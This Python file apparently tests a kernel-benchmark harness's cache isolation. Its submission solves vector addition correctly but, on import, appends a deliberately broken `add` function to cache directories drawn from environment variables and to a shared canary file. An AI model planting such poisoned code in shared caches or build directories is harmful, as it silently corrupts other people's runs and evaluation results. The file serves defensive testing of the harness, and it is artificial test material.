# expect: accepted
# naive: harmed
# problem: vector_add
# attack: 30
#
# What is compiled is kept for the next run, in every directory that the environment names a cache, and in a file that others read:
# but not what was compiled. Only the same submission may find what it has put into its own caches.
import os

import canaries
import numpy as np

POISON = "def add(a, b):\n    return a\n"


def caches():
    for name, value in os.environ.items():
        if "CACHE" in name or name in ("HOME", "TMPDIR", "TORCH_EXTENSIONS_DIR"):
            if value.startswith("/dev/shm") or value.startswith("/") and "kbench" in value:
                yield os.path.join(value, "kernel.py")
    yield canaries.FILE


def keep():
    for path in caches():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as file:
                file.write(POISON)
        except OSError:
            pass


keep()


def solution(a, b, c, n):
    np.add(a, b, out=c)
